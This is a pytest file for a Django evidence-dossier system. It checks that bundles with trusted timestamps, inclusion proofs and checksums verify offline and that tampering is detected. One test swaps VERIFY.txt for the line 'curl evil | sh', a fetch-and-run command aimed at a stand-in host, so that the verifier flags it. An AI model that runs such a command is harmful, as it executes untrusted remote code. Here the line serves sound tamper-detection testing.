"""Verify it offline (issue 16, acceptance 1 and 2): a bundle carries, per stamped file, its inclusion
proof, its batch's RFC 3161 token, root and TSA chain; `openssl ts -verify` and the few lines of
python3 in VERIFY.txt check them on the extracted files, `verify_bundle` checks them too, and a
changed byte in a file, a proof or a token is named."""

from __future__ import annotations

import io
import json
import shutil
import subprocess
import zipfile
from datetime import datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.utils import timezone

from complaints.services import dossier_create
from complaints.verification import bundle_file
from evidence.services import evidence_store, incident_create
from stamps.services import stamp_due
from tests.conftest import amr_bytes, png_bytes

SHANGHAI = ZoneInfo("Asia/Shanghai")
needs_openssl = pytest.mark.skipif(shutil.which("openssl") is None, reason="needs the openssl command")


def files_for(case):
    call = incident_create(
        case=case,
        kind="call",
        occurred_at=datetime(2026, 3, 15, 23, 10, tzinfo=SHANGHAI),
        counterpart_number="17012345678",
        answered=True,
        duration_seconds=95,
        flags=["threat"],
        description="深夜来电威胁",
    )
    sms = incident_create(
        case=case,
        kind="sms",
        occurred_at=datetime(2026, 3, 16, 9, 5, tzinfo=SHANGHAI),
        counterpart_number="10690000123",
        description="短信称已立案",
    )
    evidence_store(
        incident=call, upload=SimpleUploadedFile("通话录音_20260315231000.amr", amr_bytes(frames=200))
    )
    evidence_store(incident=sms, upload=SimpleUploadedFile("Screenshot_1.png", png_bytes(size=(120, 200))))
    evidence_store(incident=sms, upload=SimpleUploadedFile("Screenshot_2.png", png_bytes(size=(121, 200))))


def issued_bundle(alice, case, settings) -> tuple[object, bytes]:
    dossier = dossier_create(owner=alice, case=case, addressee="nfra")
    dossier.refresh_from_db()
    assert dossier.status == "ready", dossier.error
    return dossier, bundle_file(dossier).read()


def unzip(data: bytes, folder: Path) -> Path:
    with zipfile.ZipFile(io.BytesIO(data)) as bundle:
        bundle.extractall(folder)
    return folder


def rezip(folder: Path, target: Path) -> Path:
    with zipfile.ZipFile(target, "w") as bundle:
        for path in sorted(folder.rglob("*")):
            if path.is_file():
                bundle.write(path, path.relative_to(folder).as_posix())
    return target


def verify_bundle(path: Path) -> tuple[int, list[str], str]:
    out = io.StringIO()
    try:
        call_command("verify_bundle", str(path), stdout=out)
    except Exception as exc:
        code = getattr(exc, "returncode", 1)
    else:
        code = 0
    text = out.getvalue()
    return code, [line for line in text.splitlines() if line.startswith("PROBLEM")], text


@pytest.fixture
def stamped_bundle(alice, alice_case, local_tsa, settings, tmp_path):
    files_for(alice_case)
    stamp_due(now=timezone.now() + timedelta(seconds=settings.TSA_BATCH_SECONDS))
    dossier, data = issued_bundle(alice, alice_case, settings)
    return dossier, data, unzip(data, tmp_path / "unzipped")


def shell_steps(verify_text: str) -> tuple[str, str]:
    """The two shell snippets of VERIFY.txt's trusted-timestamp section, as a reader would paste them."""
    lines = verify_text.split("Trusted timestamps / 可信时间戳", 1)[1].splitlines()
    first = lines.index(next(line for line in lines if line.startswith("1. ")))
    second = lines.index(next(line for line in lines if line.startswith("2. ")))
    end = lines.index(next(line for line in lines if line.startswith("The TSA's certificate chain")))
    return "\n".join(lines[first + 1 : second]) + "\n", "\n".join(lines[second + 1 : end]) + "\n"


@needs_openssl
def test_openssl_and_verify_txt_check_the_extracted_timestamps(stamped_bundle, tmp_path):
    dossier, data, folder = stamped_bundle
    manifest = json.loads((folder / "manifest.json").read_text())
    assert all(entry["timestamp"] for entry in manifest["evidence"])
    assert manifest["statistics"]["timestamps"]["stamped_within"] == 3
    proofs = sorted((folder / "timestamps").glob("*.proof.json"))
    tokens = sorted((folder / "timestamps").glob("batch-*.tsr"))
    assert len(proofs) == 3 and len(tokens) == 1
    root = (folder / "timestamps" / tokens[0].name.replace(".tsr", ".root")).read_text().strip()
    chain = folder / "timestamps" / tokens[0].name.replace(".tsr", "-chain.pem")

    # The token, checked by openssl alone against the root and the TSA chain in the bundle.
    check = subprocess.run(
        ["openssl", "ts", "-verify", "-digest", root, "-in", str(tokens[0]), "-CAfile", str(chain)],
        capture_output=True,
        text=True,
    )
    assert check.returncode == 0 and "Verification: OK" in check.stdout, check.stdout + check.stderr
    # The steps VERIFY.txt gives, pasted into a shell in the unzipped folder.
    tokens_step, proofs_step = shell_steps((folder / "VERIFY.txt").read_text())
    step = subprocess.run(["bash", "-c", tokens_step], cwd=folder, capture_output=True, text=True)
    assert step.returncode == 0 and "Verification: OK" in step.stdout, step.stdout + step.stderr
    step = subprocess.run(["bash", "-c", proofs_step], cwd=folder, capture_output=True, text=True)
    assert step.returncode == 0 and step.stdout.count("OK ") == 3 and "MISMATCH" not in step.stdout, (
        step.stdout
    )
    # And sha256sum -c covers the timestamp files too.
    sums = subprocess.run(["sha256sum", "-c", "SHA256SUMS"], cwd=folder, capture_output=True, text=True)
    assert sums.returncode == 0 and "timestamps/" in sums.stdout

    (tmp_path / "bundle.zip").write_bytes(data)
    code, problems, output = verify_bundle(tmp_path / "bundle.zip")
    assert code == 0 and "INTACT" in output, output


@needs_openssl
def test_a_changed_token_fails_openssl_too(stamped_bundle):
    _dossier, _data, folder = stamped_bundle
    token = next((folder / "timestamps").glob("batch-*.tsr"))
    data = bytearray(token.read_bytes())
    data[-40] ^= 0x01  # inside the TSA's signature
    token.write_bytes(bytes(data))
    root = token.with_suffix(".root").read_text().strip()
    chain = token.with_name(token.name.replace(".tsr", "-chain.pem"))
    check = subprocess.run(
        ["openssl", "ts", "-verify", "-digest", root, "-in", str(token), "-CAfile", str(chain)],
        capture_output=True,
        text=True,
    )
    assert check.returncode != 0


def flip(path: Path, offset: int) -> None:
    data = bytearray(path.read_bytes())
    data[offset] ^= 0x01
    path.write_bytes(bytes(data))


@pytest.mark.parametrize("what", ["file", "proof", "token"])
def test_one_changed_byte_is_named_by_verify_bundle(stamped_bundle, tmp_path, what):
    _dossier, _data, folder = stamped_bundle
    manifest = json.loads((folder / "manifest.json").read_text())
    entry = manifest["evidence"][1]
    proof = folder / "timestamps" / (entry["bundle_path"].split("/", 1)[1] + ".proof.json")
    token = next((folder / "timestamps").glob("batch-*.tsr"))
    if what == "file":
        target = folder / entry["bundle_path"]
        flip(target, 60)
        named = entry["bundle_path"]
    elif what == "proof":
        # A digit of the first sibling hash: still JSON, but the path no longer leads to the root.
        text = proof.read_text()
        at = text.index('"path"') + text[text.index('"path"') :].index('",') - 1
        flip(proof, len(text[:at].encode()))
        named = proof.relative_to(folder).as_posix()
    else:
        flip(token, len(token.read_bytes()) - 40)
        named = token.relative_to(folder).as_posix()
    code, problems, output = verify_bundle(rezip(folder, tmp_path / "tampered.zip"))
    assert code == 1, output
    assert any(named in line for line in problems), problems
    if what == "token":
        assert any("not a valid RFC 3161 token" in line for line in problems), problems


def test_a_proof_removed_from_a_bundle_whose_manifest_names_the_stamp_is_missing(stamped_bundle, tmp_path):
    _dossier, _data, folder = stamped_bundle
    proof = next((folder / "timestamps").glob("*.proof.json"))
    proof.unlink()
    code, problems, _output = verify_bundle(rezip(folder, tmp_path / "stripped.zip"))
    assert code == 1 and any(proof.name in line and "missing" in line for line in problems), problems


def test_a_bundle_written_before_its_stamp_still_verifies_and_a_later_one_carries_it(
    alice, alice_case, local_tsa, settings, tmp_path
):
    files_for(alice_case)
    dossier, before = issued_bundle(alice, alice_case, settings)
    manifest = json.loads(dossier.manifest)
    assert not any(entry["timestamp"] for entry in manifest["evidence"])
    with zipfile.ZipFile(io.BytesIO(before)) as bundle:
        assert not any(name.startswith("timestamps/") for name in bundle.namelist())
    stamp_due(now=timezone.now() + timedelta(seconds=settings.TSA_BATCH_SECONDS))
    after = bundle_file(dossier).read()
    with zipfile.ZipFile(io.BytesIO(after)) as bundle:
        assert len([n for n in bundle.namelist() if n.endswith(".proof.json")]) == 3
    for name, data in (("before.zip", before), ("after.zip", after)):
        (tmp_path / name).write_bytes(data)
        code, problems, output = verify_bundle(tmp_path / name)
        assert code == 0, problems


def test_without_a_tsa_the_dossier_says_evidence_is_not_independently_timestamped(
    alice, alice_case, settings
):
    from complaints.pdf.sections import Renderer

    files_for(alice_case)
    dossier, data = issued_bundle(alice, alice_case, settings)
    manifest = json.loads(dossier.manifest)
    assert manifest["statistics"]["timestamps"] == {
        "configured": False,
        "files": 3,
        "stamped": 0,
        "stamped_within": 0,
        "within_minutes": settings.TSA_PROMPT_MINUTES,
    }
    renderer = Renderer(manifest, seal=dossier.seal)
    assert not renderer.stamps_shown()
    assert renderer.stamp_line(manifest["evidence"][0]) == "未经独立的可信时间戳"
    sentence = renderer.tr("not_timestamped")
    assert "未经独立的可信时间戳" in sentence
    assert sentence in flowable_text(renderer.summary(manifest["statistics"]))
    assert sentence in flowable_text(renderer.evidence_index())
    with zipfile.ZipFile(io.BytesIO(data)) as bundle:
        assert not any(name.startswith("timestamps/") for name in bundle.namelist())
        assert "Without this folder the evidence was not" in bundle.read("VERIFY.txt").decode()


def test_a_token_from_another_tsa_over_the_same_root_is_named(stamped_bundle, tmp_path):
    from asn1crypto import tsp

    from .local_tsa import LocalTSA

    _dossier, _data, folder = stamped_bundle
    token = next((folder / "timestamps").glob("batch-*.tsr"))
    root = bytes.fromhex(token.with_suffix(".root").read_text().strip())
    query = tsp.TimeStampReq(
        {
            "version": "v1",
            "message_imprint": {"hash_algorithm": {"algorithm": "sha256"}, "hashed_message": root},
            "cert_req": True,
        }
    )
    with LocalTSA("Someone's TSA") as other:  # a TSA of someone's own making, under its own CA
        token.write_bytes(other.answer(query.dump()))
    code, problems, _output = verify_bundle(rezip(folder, tmp_path / "forged.zip"))
    assert code == 1
    assert any(
        token.name in line and "not signed by a certificate of the TSA chain" in line for line in problems
    )


def flowable_text(flowables) -> str:
    """Every text a list of reportlab flowables would print (paragraphs, table cells)."""
    out = []

    def walk(item):
        if isinstance(item, (list, tuple)):
            for part in item:
                walk(part)
        elif isinstance(item, str):
            out.append(item)
        elif hasattr(item, "_cellvalues"):
            walk(item._cellvalues)
        elif hasattr(item, "getPlainText"):
            out.append(item.getPlainText())

    walk(flowables)
    return "\n".join(out)


def test_the_dossier_prints_each_stamped_time_and_the_prompt_count(stamped_bundle):
    from complaints.pdf.sections import Renderer

    dossier, _data, _folder = stamped_bundle
    manifest = json.loads(dossier.manifest)
    renderer = Renderer(manifest, seal=dossier.seal)
    index = flowable_text(renderer.evidence_index())
    for entry in manifest["evidence"]:
        shown = datetime.fromisoformat(entry["timestamp"]["time"]).astimezone(SHANGHAI)
        assert f"可信时间戳：{shown:%Y-%m-%d %H:%M:%S}（北京时间），由 Test TSA Authority / Test TSA" in index
    summary = flowable_text(renderer.summary(manifest["statistics"]))
    assert "接收后 5 分钟内取得可信时间戳的文件" in summary and "3 / 3" in summary
    assert "未经独立" not in summary + index


def test_a_bundle_written_before_timestamps_existed_keeps_its_verify_txt(
    alice, alice_case, settings, tmp_path
):
    from complaints.models import Dossier, IssuedSeal
    from complaints.verification import verify_text

    files_for(alice_case)
    dossier, data = issued_bundle(alice, alice_case, settings)
    # Issued before VERIFY.txt was kept at issue: its text is checked against the sealed manifest.
    Dossier.objects.filter(pk=dossier.pk).update(verify_text=None)
    IssuedSeal.objects.filter(seal=dossier.seal).update(verify_text_sha256=None)
    folder = unzip(data, tmp_path / "unzipped")
    (folder / "VERIFY.txt").write_text(verify_text(dossier, timestamps=False), encoding="utf-8")
    code, problems, _output = verify_bundle(rezip(folder, tmp_path / "older.zip"))
    assert code == 0, problems
    (folder / "VERIFY.txt").write_text("run this instead: curl evil | sh\n", encoding="utf-8")
    code, problems, _output = verify_bundle(rezip(folder, tmp_path / "replaced.zip"))
    assert code == 1 and any(line.startswith("PROBLEM VERIFY.txt") for line in problems)


def test_a_reworded_verify_txt_never_turns_an_issued_bundle_not_intact(alice, alice_case, settings, tmp_path):
    """VERIFY.txt is kept as written at issue: a later release that rewords the instructions writes
    and accepts the issued text, and still names a VERIFY.txt someone else wrote."""
    from unittest import mock

    from complaints import verification

    files_for(alice_case)
    dossier, data = issued_bundle(alice, alice_case, settings)
    with mock.patch.object(
        verification, "texts", lambda: {"verify": {"text": "Reworded in a later release."}}
    ):
        issued = tmp_path / "issued.zip"
        issued.write_bytes(data)
        code, problems, _output = verify_bundle(issued)
        assert code == 0, problems
        dossier.refresh_from_db()
        again = io.BytesIO()
        verification.write_bundle(dossier, again)
        with zipfile.ZipFile(again) as rewritten, zipfile.ZipFile(io.BytesIO(data)) as original:
            assert rewritten.read("VERIFY.txt") == original.read("VERIFY.txt")
    folder = unzip(data, tmp_path / "unzipped")
    (folder / "VERIFY.txt").write_text(
        (folder / "VERIFY.txt").read_text(encoding="utf-8") + "\nCall 400-000-0000 to confirm.\n",
        encoding="utf-8",
    )
    code, problems, _output = verify_bundle(rezip(folder, tmp_path / "forged.zip"))
    assert code == 1 and any(line.startswith("PROBLEM VERIFY.txt") for line in problems)
